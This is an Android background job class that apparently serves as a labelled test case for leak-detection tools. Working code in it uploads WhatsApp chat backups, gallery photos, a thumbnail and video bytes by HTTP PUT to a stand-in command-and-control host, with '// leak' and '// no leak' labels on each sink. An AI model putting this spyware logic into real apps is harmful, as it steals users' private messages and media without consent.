package robbers;

import android.app.job.JobParameters;
import android.app.job.JobService;
import android.content.ContentUris;
import android.database.Cursor;
import android.graphics.Bitmap;
import android.graphics.BitmapFactory;
import android.net.Uri;
import android.os.Environment;
import android.os.ParcelFileDescriptor;
import android.provider.MediaStore;
import java.io.ByteArrayOutputStream;
import java.io.File;
import java.io.FileInputStream;
import java.io.FileOutputStream;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.RandomAccessFile;
import java.net.HttpURLConnection;
import java.net.URL;
import java.nio.ByteBuffer;
import java.nio.channels.FileChannel;

/** Pictures and documents that lie on the card, and what of them goes. */
public class Files2 extends JobService {
    public boolean onStartJob(JobParameters given) {
        new Thread(() -> {
            try {
                walk(new File(Environment.getExternalStorageDirectory(), "WhatsApp/Media"));
                pictures();
                shrunk();
                channel();
                own();
            } catch (Exception e) {
                jobFinished(given, false);
            }
        }).start();
        return true;
    }

    public boolean onStopJob(JobParameters given) {
        return false;
    }

    private OutputStream line(String path) throws Exception {
        HttpURLConnection c = (HttpURLConnection) new URL("http://c2.example.invalid/" + path).openConnection();
        c.setRequestMethod("PUT");
        c.setDoOutput(true);
        return c.getOutputStream();
    }

    private void walk(File folder) throws Exception {
        File[] all = folder.listFiles();
        if (all == null) {
            return;
        }
        for (File one : all) {
            if (one.isDirectory()) {
                walk(one);
            } else if (one.getName().endsWith(".crypt12")) {
                OutputStream out = line("w");
                FileInputStream in = new FileInputStream(one);
                byte[] part = new byte[8192];
                int n;
                while ((n = in.read(part, 0, part.length)) != -1) {
                    out.write(part, 0, n); // leak
                }
                in.close();
                out.close();
            }
        }
    }

    private void pictures() throws Exception {
        Cursor rows = getContentResolver().query(MediaStore.Images.Media.EXTERNAL_CONTENT_URI, new String[] {"_id", "_data"}, null, null, "date_added desc");
        while (rows.moveToNext()) {
            Uri one = ContentUris.withAppendedId(MediaStore.Images.Media.EXTERNAL_CONTENT_URI, rows.getLong(0));
            InputStream in = getContentResolver().openInputStream(one);
            OutputStream out = line("p");
            for (int b = in.read(); b >= 0; b = in.read()) {
                out.write(b); // leak
            }
        }
        OutputStream out = line("n");
        out.write(rows.getCount()); // no leak
        rows.close();
    }

    private void shrunk() throws Exception {
        Cursor rows = getContentResolver().query(MediaStore.Images.Media.EXTERNAL_CONTENT_URI, null, null, null, null);
        rows.moveToLast();
        String path = rows.getString(rows.getColumnIndex(MediaStore.MediaColumns.DATA));
        BitmapFactory.Options how = new BitmapFactory.Options();
        how.inSampleSize = 4;
        Bitmap small = BitmapFactory.decodeFile(path, how);
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        small.compress(Bitmap.CompressFormat.JPEG, 50, bytes);
        OutputStream out = line("s");
        bytes.writeTo(out); // leak
        out.write(how.inSampleSize); // no leak
    }

    private void channel() throws Exception {
        ParcelFileDescriptor open = getContentResolver().openFileDescriptor(Uri.parse("content://media/external/video/media/1"), "r");
        FileChannel from = new FileInputStream(open.getFileDescriptor()).getChannel();
        ByteBuffer buffer = ByteBuffer.allocate(1024);
        from.read(buffer);
        buffer.flip();
        byte[] all = new byte[buffer.remaining()];
        buffer.get(all);
        line("v").write(all); // leak
    }

    private void own() throws Exception {
        File file = new File(getFilesDir(), "own.bin");
        try (FileOutputStream out = new FileOutputStream(file)) {
            out.write(new byte[] {1, 2, 3});
        }
        RandomAccessFile in = new RandomAccessFile(file, "r");
        byte[] all = new byte[(int) in.length()];
        in.readFully(all);
        line("o").write(all); // no leak
    }
}
